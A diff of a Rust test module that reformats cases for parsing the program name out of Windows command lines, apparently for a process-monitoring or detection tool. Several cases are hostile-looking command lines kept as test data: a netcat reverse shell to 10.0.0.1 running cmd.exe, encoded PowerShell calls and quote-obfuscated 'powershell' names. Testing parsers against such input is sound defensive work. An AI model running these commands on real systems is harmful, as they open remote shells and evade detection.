@@ -101,15 +101,27 @@ mod tests {
     fn the_program_is_found() {
         for (line, name, rest) in [
             (r#""C:\a b\c.exe" -x"#, r"C:\a b\c.exe", " -x"),
-            (r"C:\Program Files\x\y.exe -a b", r"C:\Program Files\x\y.exe", " -a b"),
-            (r"\\?\C:\Program Files\y.exe -a", r"C:\Program Files\y.exe", " -a"),
+            (
+                r"C:\Program Files\x\y.exe -a b",
+                r"C:\Program Files\x\y.exe",
+                " -a b",
+            ),
+            (
+                r"\\?\C:\Program Files\y.exe -a",
+                r"C:\Program Files\y.exe",
+                " -a",
+            ),
             (r#""\\?\C:\w\y.exe" -a"#, r"C:\w\y.exe", " -a"),
             (r"\??\C:\w\conhost.exe 0x4", r"C:\w\conhost.exe", " 0x4"),
             ("powershell -c calc.exe", "powershell", " -c calc.exe"),
             (r"C:\w\cmd /c a.exe", r"C:\w\cmd", " /c a.exe"),
             ("cmd/c a", "cmd", "/c a"),
             (r"C:\w\CMD.EXE/c a", r"C:\w\CMD.EXE", "/c a"),
-            (r"C:\t\nc 10.0.0.1 -e cmd.exe", r"C:\t\nc", " 10.0.0.1 -e cmd.exe"),
+            (
+                r"C:\t\nc 10.0.0.1 -e cmd.exe",
+                r"C:\t\nc",
+                " 10.0.0.1 -e cmd.exe",
+            ),
             (r#"pow"er"shell -e x"#, r#"pow"er"shell"#, " -e x"),
             (r#""power"shell.exe -e x"#, r#""power"shell.exe"#, " -e x"),
             (r#""C:\never closed -e x"#, r"C:\never closed -e x", ""),
